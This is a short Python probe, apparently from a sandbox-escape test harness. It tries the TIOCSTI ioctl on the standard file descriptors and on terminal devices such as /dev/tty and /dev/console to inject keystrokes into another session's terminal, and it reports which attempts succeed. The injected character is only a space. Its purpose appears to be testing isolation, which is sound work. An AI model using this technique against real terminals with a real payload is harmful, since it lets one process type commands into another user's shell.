"""Letters pushed into a terminal for whoever reads it next (TIOCSTI), and the terminal itself. A
hole shows by a broken protocol."""

import fcntl
import os
import termios

import attack_client

attack = attack_client.begin(
    name="terminal-input", system="chain", claim="ENC", surfaces=["transaction"],
    about="Types for somebody else.")

pushed = []
for descriptor in (0, 1, 2):
    try:
        fcntl.ioctl(descriptor, termios.TIOCSTI, b" ")
        pushed.append(descriptor)
    except OSError:
        pass
for name in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/tty0"):
    try:
        terminal = os.open(name, os.O_RDWR | os.O_NOCTTY)
        fcntl.ioctl(terminal, termios.TIOCSTI, b" ")
        pushed.append(name)
    except OSError:
        pass
if pushed:
    attack.note(pushed)
    attack.raw(b"a letter was pushed\n")
attack.submit(b"\0", to="transaction")
attack.done()
